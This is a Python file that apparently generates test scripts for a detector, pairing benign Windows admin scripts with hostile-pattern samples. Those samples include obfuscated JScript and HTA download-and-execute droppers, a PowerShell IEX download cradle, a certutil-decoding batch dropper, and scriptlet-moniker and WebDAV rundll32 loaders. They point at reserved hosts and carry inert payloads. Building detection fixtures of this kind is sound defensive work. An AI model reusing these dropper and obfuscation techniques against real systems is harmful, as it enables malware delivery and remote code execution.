# SPDX-License-Identifier: Apache-2.0
"""wavescript - scripts for tools/make-waves.

Hostile ones have the structure of a technique without its effect: hosts are reserved names,
programs do not exist. Benign ones are what administrators write.
"""
import base64

import screnc

NOTHING = 'example-command-that-does-not-exist'
URL = 'http://files.example.invalid/a'


def pieces(text, n=3):
    return '+'.join("'%s'" % text[i:i + n] for i in range(0, len(text), n))


def command(text):
    return base64.b64encode(text.encode('utf-16-le')).decode()


FETCH_JS = """var h = new ActiveXObject("MSXML2.XMLHTTP");
h.open("GET", "%s", false); h.send();
var s = WScript.CreateObject("WScript.Shell");
if (h.status == 200) { s.Run("%s"); }
""" % (URL, NOTHING)
HIDDEN_JS = """var a = %s, b = %s;
var f = new ActiveXObject(a);
f[%s](%s);
""" % (pieces('Scripting.FileSystemObject', 4), pieces('note'), pieces('CreateTextFile'), pieces('example.text'))
EVALUATES_JS = """function g(n) { var t = k[n % 7]; return t; }
var k = [], c = WScript.Arguments;
var o = new ActiveXObject(g(3));
eval(g(4) + g(5));
"""
PIECES_JS = "var t = [];\n" + ''.join("t[%d] = '%s';\n" % (i, p) for i, p in enumerate(
    ['note(', 'show(', 'if (a) {', 'go(', '};', 'list(', 'next(', 'for (;;) {', 'last(', 'ask(', 'tell(', 'end(', 'stop(', 'wait('])) + \
    "var q = ''; for (var i in t) q += t[i]; eval(q);\n"
ODD_JS = ''.join("var xqzwkt%dr%d = %d;\n" % (i, i * 7, i) for i in range(40)) + "var u = given(xqzwkt1r7); eval(u + '');\n"
# A table of words that is turned until a sum fits; each is asked for by a number, the file is named at run time.
TABLE_JS = """var t = ['Run', 'ADODB.Stream', 'WScript.Shell', '%s', 'GET', '17kept', 'MSXML2.XMLHTTP', '%%TEMP%%', '25left', 'SaveToFile', 'send'];
(function (a, n) {
  while (true) {
    try { if (parseInt(a[1]) + parseInt(a[9]) === n) break; a.push(a.shift()); } catch (e) { a.push(a.shift()); }
  }
})(t, 42);
function w(i) { return t[(i ^ 5) %% t.length]; }
function find(part) { for (var i = 0; i < t.length; i++) if (t[i].indexOf(part) >= 0) return t[i]; }
var h = new ActiveXObject(find('HTTP')), c = new ActiveXObject(find('Shell')), f = new ActiveXObject(find('Stream'));
h.open(find('GE'), find('://'), false); h[find('sen')]();
if (h.status == 200) {
  var p = c.ExpandEnvironmentStrings(find('EMP')) + '\\\\' + String.fromCharCode(110, 111, 116, 101) + '.e' + 'xe';
  f.Open(); f.Type = 1; f.Write(h.ResponseBody); f[find('ToFile')](p, 2); f.Close();
  c[find('Ru')](p, 0, false);
}
""" % URL
# The same ways in a house: rates are fetched into a table, and nothing is run.
RATES_JS = """var words = 'rates,csv,C:\\\\data'.split(',');
function path(dir, name, kind) { return [dir, name + '.' + kind].join('\\\\'); }
var to = path(words[2], words[0], words[1]);
var fso = new ActiveXObject('Scripting.FileSystemObject');
var out = fso.CreateTextFile(to, true);
var rows = ['JPY', 'EUR', 'USD'].map(function (r, i) { return r + ',' + (i + 1) * 10; });
out.Write(rows.join('\\r\\n'));
out.Close();
WScript.Echo('Written: ' + to);
"""
ENCODED_JSE = screnc.encode("var u = given(1); eval(u + '');\r\n")
# What a page fetches stands in an element, back to front, and what it runs in numbers.
PAGE_HTA = """<html><head><title>Invoice</title><hta:application id="a" windowstate="minimize" showintaskbar="no">
<script language="VBScript">
Function Turned(id): Turned = StrReverse(document.getElementById(id).innerText): End Function
Function Made(s): For Each n In Split(s, "."): Made = Made & Chr(n - 7): Next: End Function
</script></head>
<body onload="vbscript:Begin"><div id="w" style="display:none">tad.a/dilavni.elpmaxe//:ptth</div><input type="hidden" id="k" value="%s">
<script language="VBScript">
Sub Begin
  Set h = CreateObject("MSXML2.XMLHTTP")
  h.Open "GET", Turned("w"), False
  h.Send
  Set s = CreateObject("ADODB.Stream")
  p = CreateObject("WScript.Shell").ExpandEnvironmentStrings("%%TEMP%%") & "\\a.exe"
  s.Type = 1: s.Open: s.Write h.responseBody: s.SaveToFile p, 2
  Execute Made(k.value)
  self.close
End Sub
</script></body></html>
""" % '.'.join(str(ord(c) + 7) for c in 'CreateObject("WScript.Shell").Run p, 0')
# Neighbour: a small tool of the office, which asks WMI and shows a list.
TOOL_HTA = """<html><head><title>Inventory</title><hta:application id="a" applicationname="Inventory" border="thin">
<script language="VBScript">
Sub Window_OnLoad
  window.resizeTo 480, 320
  Set w = GetObject("winmgmts:root\\cimv2")
  For Each d In w.ExecQuery("SELECT * FROM Win32_LogicalDisk")
    t = t & d.DeviceID & " " & d.FreeSpace & "<br>"
  Next
  document.getElementById("list").innerHTML = t
End Sub
Sub Help_OnClick
  MsgBox "Drives and what is free on them. Questions: " & mail.innerText
End Sub
</script></head><body><div id="list"></div><input type="button" name="Help" value="Help"><span id="mail">it@corp.example</span></body></html>
"""
SPREADS_VBS = """Set o = CreateObject("Outlook.Application")
Set n = o.GetNameSpace("MAPI")
For Each l In n.AddressLists
  c = c + l.AddressEntries.Count
Next
CreateObject("WScript.Shell").RegWrite "HKCU\\Software\\Example\\count", c
"""
PAGE_HTML = """<html><body><p>Please wait.</p><script language="VBScript">
Dim s
Set s = CreateObject("WScript.Shell")
If 1 = 2 Then
s.Run "%s"
End If
</script></body></html>
""" % NOTHING
CRADLE_PS1 = "$c = New-Object Net.WebClient\n$t = $c.Down`loadString('%s')\nI`EX $t\n" % URL
DECODES_BAT = "@echo off\r\ncert^util -de^code \"%~f0\" %TEMP%\\example.text\r\nstart %TEMP%\\example.text\r\nexit /b\r\n" \
              "-----BEGIN CERTIFICATE-----\r\n" + base64.b64encode(b'PK\3\4 inert; nothing is in it ' * 3).decode() + "\r\n-----END CERTIFICATE-----\r\n"

# --- what administrators write

LOGON_VBS = """' ログオンスクリプト: 共有フォルダーとプリンターを割り当てる
Option Explicit
On Error Resume Next
Dim net, fso, shell, drive, user
Set net = CreateObject("WScript.Network")
Set fso = CreateObject("Scripting.FileSystemObject")
Set shell = CreateObject("WScript.Shell")
user = net.UserName
For Each drive In Array("S:", "T:", "U:")
  If fso.DriveExists(drive) Then net.RemoveNetworkDrive drive, True, True
Next
net.MapNetworkDrive "S:", "\\\\files.corp.example\\共有"
net.MapNetworkDrive "T:", "\\\\files.corp.example\\home\\" & user
net.AddWindowsPrinterConnection "\\\\print.corp.example\\2F-複合機"
If Not fso.FolderExists("C:\\Users\\" & user & "\\Documents\\様式") Then
  fso.CreateFolder "C:\\Users\\" & user & "\\Documents\\様式"
End If
fso.CopyFile "\\\\files.corp.example\\様式\\*.xlsx", "C:\\Users\\" & user & "\\Documents\\様式\\", True
shell.RegWrite "HKCU\\Software\\Corp\\LastLogon", Now
Dim log : Set log = fso.OpenTextFile("\\\\files.corp.example\\log\\" & net.ComputerName & ".log", 8, True)
log.WriteLine Now & vbTab & user
log.Close
WScript.Quit 0
"""
INVENTORY_VBS = """Option Explicit
Const ForAppending = 8
Dim wmi, item, fso, out, line
Set wmi = GetObject("winmgmts:\\\\.\\root\\cimv2")
Set fso = CreateObject("Scripting.FileSystemObject")
Set out = fso.OpenTextFile("\\\\files.corp.example\\inventory\\list.csv", ForAppending, True)
For Each item In wmi.ExecQuery("SELECT * FROM Win32_ComputerSystem")
  line = item.Name & "," & item.Manufacturer & "," & item.Model
Next
For Each item In wmi.ExecQuery("SELECT * FROM Win32_LogicalDisk WHERE DriveType = 3")
  line = line & "," & item.DeviceID & " " & Int(item.FreeSpace / 1024 / 1024) & "MB"
Next
out.WriteLine line
out.Close
"""
LIBRARY_VBS = """' takes in the functions that all scripts of the house share
Dim fso : Set fso = CreateObject("Scripting.FileSystemObject")
Sub Include(file)
  ExecuteGlobal fso.OpenTextFile(fso.GetParentFolderName(WScript.ScriptFullName) & "\\" & file & ".vbs", 1).ReadAll
End Sub
Include "common"
Include "log"
WriteLog "start"
"""
RENAME_JS = """// renames scanned files by date: scan0001.pdf -> 2026-11-22_0001.pdf
var fso = new ActiveXObject("Scripting.FileSystemObject");
var folder = fso.GetFolder(WScript.Arguments.length ? WScript.Arguments(0) : ".");
var today = new Date(), count = 0;
function two(n) { return n < 10 ? "0" + n : "" + n; }
var stamp = today.getFullYear() + "-" + two(today.getMonth() + 1) + "-" + two(today.getDate());
for (var e = new Enumerator(folder.Files); !e.atEnd(); e.moveNext()) {
    var m = /^scan(\\d+)\\.pdf$/i.exec(e.item().Name);
    if (m) { e.item().Name = stamp + "_" + m[1] + ".pdf"; count++; }
}
WScript.Echo(count + " files renamed / " + count + " 件の名前を変更しました");
"""
BACKUP_BAT = """@echo off
rem 毎日のバックアップ
setlocal enabledelayedexpansion
set SRC=D:\\業務
set DST=\\\\backup.corp.example\\daily\\%COMPUTERNAME%
set TODAY=%date:~0,4%%date:~5,2%%date:~8,2%
if not exist "%DST%\\%TODAY%" mkdir "%DST%\\%TODAY%"
robocopy "%SRC%" "%DST%\\%TODAY%" /MIR /R:2 /W:5 /LOG:"%TEMP%\\backup.log"
if %ERRORLEVEL% geq 8 (
    echo バックアップに失敗しました
    start notepad "%TEMP%\\backup.log"
    exit /b 1
)
forfiles /p "%DST%" /d -30 /c "cmd /c rmdir /s /q @path"
endlocal
"""
UPDATE_PS1 = """<# .SYNOPSIS  Reports computers whose disks are nearly full #>
param([string[]]$Computer = @('srv01.corp.example', 'srv02.corp.example'), [int]$Percent = 10)
foreach ($c in $Computer) {
    Get-CimInstance Win32_LogicalDisk -ComputerName $c -Filter 'DriveType=3' |
        Where-Object { $_.FreeSpace / $_.Size * 100 -lt $Percent } |
        Select-Object @{n='Computer';e={$c}}, DeviceID, @{n='Free';e={[math]::Round($_.FreeSpace/1GB,1)}}
}
$report = Invoke-WebRequest -Uri 'https://intranet.corp.example/api/status' -UseBasicParsing
Send-MailMessage -To admin@corp.example -From report@corp.example -Subject '空き容量' -Body $report.Content -SmtpServer mx.corp.example
"""
JOB_WSF = """<?xml version="1.0" encoding="utf-8"?>
<job id="users"><object id="net" progid="WScript.Network"/>
<script language="VBScript" src="common.vbs"/>
<script language="JScript"><![CDATA[
WScript.Echo(net.UserDomain + "\\\\" + net.UserName);
]]></script></job>
"""
ENCODED_VBE = screnc.encode("MsgBox \"Hello\"\r\nWScript.Quit\r\n")

# Code that runs other code straight from the Internet, and neighbours that fetch, or run, but not both.
MONIKER_VBS = """Dim parts, where
parts = Array("script", "http", "//192.0.2.7/notes.sct")
where = Join(parts, ":")
Set component = GetObject(where)
"""
MONIKER_JS = """var w = ["/words.sct", "192.0.2.7", "script:http://"].reverse().join("");
GetObject(w);
"""
PULL_PS1 = """$where = ('{1}{0}' -f '192.0.2.7/words.txt', 'http://')
$words = (Invoke-RestMethod -Uri $where).Trim()
& ('i' + 'ex') $words
"""
WEBDAV_VBS = """server = "192.0.2.7@" & CStr(40 * 2)
CreateObject("WScript.Shell").Run "rundll32.exe \\\\" & server & "\\share\\words.dll,Show", 0
"""
FETCH_PS1 = """$rates = Invoke-RestMethod -Uri 'https://rates.example/daily.csv'
$rates | Set-Content -Path 'C:\\data\\rates.csv'
Start-Process notepad.exe 'C:\\data\\rates.csv'
"""
SHARE_VBS = """CreateObject("WScript.Shell").Run "\\\\files.corp.example\\tools\\setup.exe /s", 1, True
Set service = GetObject("winmgmts:\\\\.\\root\\cimv2")
"""
